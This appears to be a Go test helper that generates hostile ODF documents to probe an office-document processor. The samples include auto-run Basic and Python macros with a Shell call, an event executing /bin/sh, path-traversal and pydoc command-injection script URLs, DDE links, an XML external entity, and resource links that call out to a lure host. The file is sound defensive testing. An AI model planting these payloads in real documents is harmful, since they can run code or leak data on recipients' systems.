package officetest

import (
	"fmt"
	"slices"
)

func frame(inside string) string {
	return `<text:p>Whereas <draw:frame draw:name="f" text:anchor-type="paragraph" svg:width="3cm" svg:height="3cm">` + inside + `</draw:frame></text:p>`
}

func linked(element, target, more string) string {
	return fmt.Sprintf(`<draw:%s xlink:href="%s" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"%s/>`, element, escaped(target), more)
}

func hostileOpen(l Lure) []Hostile {
	text := func(form func(target string) string) func(string) []byte {
		return func(target string) []byte { return OpenDocument("text", form(target), nil) }
	}
	in := func(element, more string) func(string) []byte {
		return text(func(target string) string { return frame(linked(element, target, more)) })
	}
	section := text(func(target string) string {
		return `<text:section text:name="s"><text:section-source xlink:href="` + escaped(target) + `" xlink:type="simple"/><text:p>Whereas</text:p></text:section>`
	})
	source := func(target string) []byte {
		return OpenDocument("spreadsheet", `<table:table table:name="Sheet1"><table:table-source xlink:href="`+escaped(target)+
			`" table:mode="copy-all" table:refresh-delay="PT0H00M01S"/><table:table-row><table:table-cell/></table:table-row></table:table>`, nil)
	}
	formula := func(target string) []byte {
		return OpenDocument("spreadsheet", Sheet(`table:formula="of:=WEBSERVICE(&quot;`+escaped(target)+`&quot;)">`), nil)
	}
	return slices.Concat(
		toward(l, "linked picture, ODF", "odt", "http https ftp share webdav file path", in("image", "")),
		toward(l, "linked object, ODF", "odt", "http file", in("object", "")),
		toward(l, "plug-in, ODF", "odt", "http file", in("plugin", ` draw:mime-type="application/x-shockwave-flash"`)),
		toward(l, "applet, ODF", "odt", "http", in("applet", ` draw:code="Lure.class" draw:may-script="true"`)),
		toward(l, "frame of a page, ODF", "odt", "http file", in("floating-frame", "")),
		toward(l, "section from elsewhere", "odt", "http share file path", section),
		toward(l, "sheet from elsewhere", "ods", "http share file", source),
		toward(l, "WEBSERVICE, ODF", "ods", "http file", formula),
		named("script, ODF", "odt", scripts(l)),
		named("reference, ODF", "odt", references(l)),
		named("sheet that runs", "ods", map[string][]byte{
			"DDE formula": OpenDocument("spreadsheet", Sheet(`table:formula="of:=DDE(&quot;soffice&quot;;&quot;`+l.File+`&quot;;&quot;A1&quot;)">`), nil),
			"DDE link": OpenDocument("spreadsheet", Sheet(`>`)+`<table:dde-links><table:dde-link><office:dde-source office:dde-application="soffice" office:dde-topic="`+
				l.File+`" office:dde-item="A1" office:automatic-update="true"/><table:table><table:table-row><table:table-cell/></table:table-row></table:table></table:dde-link></table:dde-links>`, nil),
		}),
		named("slide that runs", "odp", map[string][]byte{
			"program": OpenDocument("presentation", Slide(`<draw:custom-shape svg:width="3cm" svg:height="3cm"><office:event-listeners><presentation:event-listener script:event-name="dom:click" `+
				`presentation:action="execute" xlink:href="file:///bin/sh"/></office:event-listeners></draw:custom-shape>`), nil),
			"sound":   OpenDocument("presentation", Slide(`<draw:frame svg:width="3cm" svg:height="3cm">`+linked("plugin", "http://"+l.Host+"/lure", ` draw:mime-type="application/vnd.sun.star.media"`)+`</draw:frame>`), nil),
			"picture": OpenDocument("presentation", Slide(`<draw:frame svg:width="3cm" svg:height="3cm">`+linked("image", "file://"+l.File, "")+`</draw:frame>`), nil),
		}),
	)
}

// scripts are run by events of the document, if anything runs them.
func scripts(l Lure) map[string][]byte {
	onLoad := func(address string) map[string]string {
		return map[string]string{"content.xml": `<?xml version="1.0"?><office:document-content ` + openNames + ` office:version="1.2"><office:scripts><office:event-listeners>` +
			`<script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="` + escaped(address) + `" xlink:type="simple"/>` +
			`<script:event-listener script:language="ooo:script" script:event-name="office:print" xlink:href="` + escaped(address) + `" xlink:type="simple"/>` +
			`</office:event-listeners></office:scripts><office:body><office:text><text:p>Whereas</text:p></office:text></office:body></office:document-content>`}
	}
	with := func(parts map[string]string, extra map[string]string) []byte {
		for name, content := range extra {
			parts[name] = content
		}
		return OpenDocument("text", "", parts)
	}
	basic := map[string]string{
		"Basic/script-lc.xml":          `<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>`,
		"Basic/Standard/script-lb.xml": `<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Lure"/></library:library>`,
		"Basic/Standard/Lure.xml": `<?xml version="1.0"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Lure" script:language="StarBasic">` +
			"Sub Main\nOpen \"/scratch/planted\" For Output As #1\nPrint #1, \"x\"\nClose #1\nShell(\"/usr/bin/touch /scratch/planted2\")\nEnd Sub</script:module>",
	}
	python := map[string]string{"Scripts/python/lure.py": "def run(*a):\n    open('/scratch/planted', 'w').write('x')\n"}
	return map[string][]byte{
		"Basic":            with(onLoad("vnd.sun.star.script:Standard.Lure.Main?language=Basic&location=document"), basic),
		"Python":           with(onLoad("vnd.sun.star.script:lure.py$run?language=Python&location=document"), python),
		"LibreLogo":        with(onLoad("vnd.sun.star.script:LibreLogo/LibreLogo.py$run?language=Python&location=share"), nil),
		"other folder":     with(onLoad("vnd.sun.star.script:../../../../../worker.py$main?language=Python&location=share"), nil),
		"pydoc":            with(onLoad("vnd.sun.star.script:../../../../../../usr/lib/python3.11/pydoc.py$tempfilepager(1, touch /scratch/planted)?language=Python&location=share"), nil),
		"macro address":    with(onLoad("macro:///Standard.Lure.Main()"), basic),
		"dispatch":         with(onLoad("service:com.sun.star.system.SystemShellExecute?file://"+l.File), nil),
		"expansion":        with(onLoad("vnd.sun.star.expand:$UNO_USER_PACKAGES_CACHE/../../planted"), nil),
		"event of a frame": OpenDocument("text", frame(linked("image", "x.png", "")+`<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:mouseover" xlink:href="vnd.sun.star.script:LibreLogo/LibreLogo.py$run?language=Python&amp;location=share"/></office:event-listeners>`), nil),
	}
}

// references are the lesser ways out of an ODF text.
func references(l Lure) map[string][]byte {
	styles := func(inside string) map[string]string {
		return map[string]string{"styles.xml": `<?xml version="1.0"?><office:document-styles ` + openNames + ` office:version="1.2">` + inside + `</office:document-styles>`}
	}
	meta := func(inside string) map[string]string {
		return map[string]string{"meta.xml": `<?xml version="1.0"?><office:document-meta ` + openNames + ` office:version="1.2"><office:meta>` + inside + `</office:meta></office:document-meta>`}
	}
	http := "http://" + l.Host + "/lure"
	const whereas = `<text:p>Whereas</text:p>`
	return map[string][]byte{
		"font":       OpenDocument("text", whereas, styles(`<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src><svg:font-face-uri xlink:href="`+http+`" xlink:type="simple"/></svg:font-face-src></style:font-face></office:font-face-decls>`)),
		"background": OpenDocument("text", whereas, styles(`<office:styles><style:default-style style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="`+http+`" xlink:actuate="onLoad"/></style:paragraph-properties></style:default-style></office:styles>`)),
		"bullet":     OpenDocument("text", `<text:list><text:list-item>`+whereas+`</text:list-item></text:list>`, styles(`<office:styles><text:list-style style:name="L"><text:list-level-style-image text:level="1" xlink:href="`+http+`"/></text:list-style></office:styles>`)),
		"template":   OpenDocument("text", whereas, meta(`<meta:template xlink:href="`+http+`" xlink:actuate="onRequest" meta:date="2020-01-01T00:00:00"/>`)),
		"reload":     OpenDocument("text", whereas, meta(`<meta:auto-reload xlink:href="`+http+`" meta:delay="PT0S"/>`)),
		"XForms":     OpenDocument("text", `<office:forms><xforms:model id="m"><xforms:instance id="i" src="`+http+`"/><xforms:submission id="s" action="`+http+`" method="get"/></xforms:model></office:forms>`+whereas, nil),
		"form":       OpenDocument("text", `<office:forms form:automatic-focus="true"><form:form form:name="f" xlink:href="`+http+`" form:command="SELECT 1" form:datasource="`+http+`"/></office:forms>`+whereas, nil),
		"DDE":        OpenDocument("text", `<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" office:dde-topic="`+l.File+`" office:dde-item="A1" office:automatic-update="true"/></text:dde-connection-decls><text:p>Whereas <text:dde-connection text:connection-name="d"/></text:p>`, nil),
		"formula":    OpenDocument("text", frame(`<draw:object xlink:href="./Object 1"/>`), map[string]string{"Object 1/content.xml": `<?xml version="1.0"?><!DOCTYPE math [<!ENTITY lure SYSTEM "` + http + `">]><math xmlns="http://www.w3.org/1998/Math/MathML"><mi>&lure;</mi></math>`}),
		"database":   OpenDocument("text", `<text:p>Whereas <text:database-display text:database-name="`+http+`" text:table-name="lure" text:table-type="table" text:column-name="a">x</text:database-display></text:p>`, nil),
	}
}
